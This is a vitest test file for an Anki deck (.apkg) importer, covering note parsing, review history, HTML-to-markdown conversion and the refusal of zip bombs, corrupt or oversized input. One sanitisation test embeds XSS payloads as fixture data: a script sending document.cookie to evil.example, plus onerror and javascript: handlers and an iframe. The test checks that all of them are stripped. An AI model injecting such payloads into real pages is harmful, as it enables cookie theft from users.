import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { ANKI_SCHEMA_11, readApkg } from './apkg';
import { MAX_CELL_CHARS } from './limits';
import { loadSqlJs } from './sqlite';
import { ankiAnswers, ankiHistoryApkg } from '../test/anki-history';

const fixture = (name: string) => readFileSync(new URL(`../test/fixtures/${name}`, import.meta.url));

type Model = { id: number; name: string; type: 0 | 1; fields: string[]; templates: number };
const BASIC: Model = { id: 1001, name: 'Basic', type: 0, fields: ['Front', 'Back'], templates: 1 };
const REVERSED: Model = { id: 1002, name: 'Basic (and reversed card)', type: 0, fields: ['Front', 'Back'], templates: 2 };
const CLOZE: Model = { id: 1003, name: 'Cloze', type: 1, fields: ['Text', 'Back Extra'], templates: 1 };

/** A collection built from Anki's documented schema 11, as Anki writes one. */
async function collection(notes: { model: Model; fields: string[]; tags?: string; cards?: number[] }[]) {
  const SQL = await loadSqlJs();
  const db = new SQL.Database();
  db.run(ANKI_SCHEMA_11);
  const models = Object.fromEntries(
    [BASIC, REVERSED, CLOZE].map((m) => [
      String(m.id),
      {
        id: m.id, name: m.name, type: m.type, flds: m.fields.map((name, ord) => ({ name, ord })),
        tmpls: Array.from({ length: m.templates }, (_, ord) => ({ name: `Card ${ord + 1}`, ord, qfmt: '{{Front}}', afmt: '{{Back}}' })),
      },
    ]),
  );
  const decks = { '1': { id: 1, name: 'Default' }, '42': { id: 42, name: 'Biology::Cells', desc: '<i>From Anki</i>' } };
  db.run("insert into col values (1, 1700000000, 0, 0, 11, 0, 0, 0, '{}', ?, ?, '{}', '{}')", [JSON.stringify(models), JSON.stringify(decks)]);
  let cid = 1;
  notes.forEach((n, i) => {
    const nid = 5000 + i;
    db.run("insert into notes values (?, ?, ?, 0, 0, ?, ?, '', 0, 0, '')", [nid, `g${i}`, n.model.id, n.tags ?? '', n.fields.join('\x1f')]);
    for (const ord of n.cards ?? [0]) {
      db.run("insert into cards values (?, ?, 42, ?, 0, 0, 0, 0, ?, 0, 0, 0, 0, 0, 0, 0, 0, '')", [cid++, nid, ord, i]);
    }
  });
  const bytes = db.export();
  db.close();
  return bytes;
}

async function apkgOf(files: Record<string, Uint8Array | string>) {
  const zip = new JSZip();
  for (const [name, content] of Object.entries(files)) zip.file(name, content);
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

describe('reading Anki packages', () => {
  it('reads an SM-2 history (revlog, no FSRS memory state) and marks the card for a replay', async () => {
    const start = new Date('2026-01-05T09:00:00Z');
    const { deck } = await readApkg(await ankiHistoryApkg(start));
    const [q] = deck.questions;
    expect(q).toMatchObject({ question: 'hello', expectedAnswer: 'world' });
    expect(q!.reviewLog!.map((l) => [l.reviewedAt, l.rating, l.state])).toEqual(
      ankiAnswers(start).map((a, i) => [a.at.toISOString(), a.ease, i === 0 ? 'new' : ['learning', 'review', 'relearning'][a.type]]),
    );
    // Anki's columns as they are, with the interval standing in for stability: the importer replays.
    expect(q!.review).toMatchObject({ state: 'review', scheduledDays: 1, lapses: 1, reps: 6, lastRating: 'good', estimated: true });
  });

  it("imports real decks exported by Anki (Anki's own test files)", async () => {
    const basic = await readApkg(fixture('update1.apkg'));
    expect(basic.skipped).toEqual([]);
    expect(basic.deck.questions).toEqual([
      expect.objectContaining({ question: 'hello', expectedAnswer: 'world', questionType: 'free_response', options: [], review: null, reviewLog: [] }),
    ]);
    const named = await readApkg(fixture('diffmodeltemplates-1.apkg'));
    expect(named.deck.title).toBe('testdeck');
    expect(named.deck.questions.map((q) => [q.question, q.expectedAnswer])).toEqual([['question?', 'answer!']]);
    // A sound-only front with an empty back: the media reference stays text, the card is skipped with a reason.
    const media = await readApkg(fixture('media.apkg'));
    expect(media.deck.questions).toEqual([]);
    expect(media.skipped).toEqual([{ line: 1, reason: 'empty back' }]);
  });

  it('reads basic, basic-and-reversed (one question) and cloze notes (one per cloze number)', async () => {
    const db = await collection([
      { model: BASIC, fields: ['What is <b>ATP</b>?', 'Energy&nbsp;currency<br>of the cell'], tags: 'cell_biology energy' },
      { model: REVERSED, fields: ['Mitochondrion', 'Powerhouse'], cards: [0, 1] },
      { model: CLOZE, fields: ['{{c1::Ribosomes}} make {{c2::proteins::what?}}.', 'Extra <img src="ribo.png">'], cards: [0, 1] },
      { model: BASIC, fields: ['', 'no front'] },
    ]);
    const { deck, skipped } = await readApkg(await apkgOf({ 'collection.anki2': db, media: '{}' }));
    expect(deck.title).toBe('Biology::Cells');
    expect(deck.description).toBe('_From Anki_');
    expect(deck.questions.map((q) => [q.question, q.expectedAnswer, q.explanation ?? null])).toEqual([
      ['What is **ATP**?', 'Energy currency\nof the cell', null],
      ['Mitochondrion', 'Powerhouse', null],
      ['[...] make proteins.', 'Ribosomes', 'Extra ![](ribo.png)'],
      ['Ribosomes make [what?].', 'proteins', 'Extra ![](ribo.png)'],
    ]);
    expect(deck.questions[0]?.concepts).toEqual(['cell biology', 'energy']);
    expect(skipped).toEqual([{ line: 4, reason: 'empty front' }]);
  });

  it('cleans scripts, styles and event handlers out of card HTML', async () => {
    const db = await collection([
      {
        model: BASIC,
        fields: [
          'Q<script>fetch("https://evil.example/"+document.cookie)</script><style>body{display:none}</style> <img src="x.png" onerror="alert(1)">',
          '<a href="javascript:alert(2)" onclick="alert(3)">A</a><iframe src="https://evil.example"></iframe><img src="javascript:alert(4)">',
        ],
      },
    ]);
    const { deck } = await readApkg(await apkgOf({ 'collection.anki2': db, media: '{}' }));
    const q = deck.questions[0]!;
    expect(q.question).toBe('Q ![](x.png)');
    expect(q.expectedAnswer).toBe('A');
    const text = JSON.stringify(q);
    for (const bad of ['script', 'alert', 'onerror', 'onclick', 'javascript', 'iframe', 'evil', 'display:none']) expect(text).not.toContain(bad);
  });

  it('refuses a zip bomb posing as an .apkg', async () => {
    const bomb = await apkgOf({ 'collection.anki2': new Uint8Array(16 * 1024 * 1024), media: '{}' });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    await expect(readApkg(bomb)).rejects.toMatchObject({ code: 'EXCHANGE_ZIP_BOMB', message: expect.stringMatching(/zip bomb/) });
  });

  it('refuses an archive with more entries than a deck has', async () => {
    const zip = new JSZip();
    for (let i = 0; i < 20_001; i++) zip.file(String(i), '');
    const many = await zip.generateAsync({ type: 'uint8array' });
    await expect(readApkg(many)).rejects.toMatchObject({ code: 'EXCHANGE_ZIP_BOMB', message: expect.stringMatching(/20001 files/) });
  });

  it('refuses a corrupt collection, a SQLite database that is not Anki, and a file that is not a zip', async () => {
    const corrupt = await apkgOf({ 'collection.anki2': new TextEncoder().encode('SQLite format 3\0'.padEnd(4096, 'garbage')), media: '{}' });
    await expect(readApkg(corrupt)).rejects.toMatchObject({ code: 'EXCHANGE_NOT_ANKI' });
    const SQL = await loadSqlJs();
    const other = new SQL.Database();
    other.run('create table users (id integer primary key, email text); insert into users values (1, "a@b.c")');
    await expect(readApkg(await apkgOf({ 'collection.anki2': other.export(), media: '{}' }))).rejects.toMatchObject({
      code: 'EXCHANGE_NOT_ANKI',
      message: expect.stringMatching(/not an Anki collection \(it has no col, notes, cards, revlog table\)/),
    });
    await expect(readApkg(await apkgOf({ 'notes.txt': 'hello' }))).rejects.toMatchObject({ code: 'EXCHANGE_NOT_ANKI' });
    await expect(readApkg(new TextEncoder().encode('question,answer\n'))).rejects.toMatchObject({ code: 'EXCHANGE_BAD_FILE' });
  });

  it('refuses the zstd collection.anki21b with a way out', async () => {
    const newest = await apkgOf({ 'collection.anki21b': new Uint8Array([0x28, 0xb5, 0x2f, 0xfd]), 'collection.anki2': await collection([]), meta: '' });
    await expect(readApkg(newest)).rejects.toMatchObject({ code: 'EXCHANGE_ANKI_UNSUPPORTED', message: expect.stringMatching(/Support older Anki versions/) });
  });

  it('refuses a note with a 10 MB field', async () => {
    const db = await collection([{ model: BASIC, fields: ['big', randomBytes(7.5 * 1024 * 1024).toString('base64')] }]);
    expect(10 * 1024 * 1024).toBeGreaterThan(MAX_CELL_CHARS);
    await expect(readApkg(await apkgOf({ 'collection.anki2': db, media: '{}' }))).rejects.toMatchObject({ code: 'EXCHANGE_CELL_TOO_LARGE', message: expect.stringMatching(/^Note 1's field Back/) });
  });
});
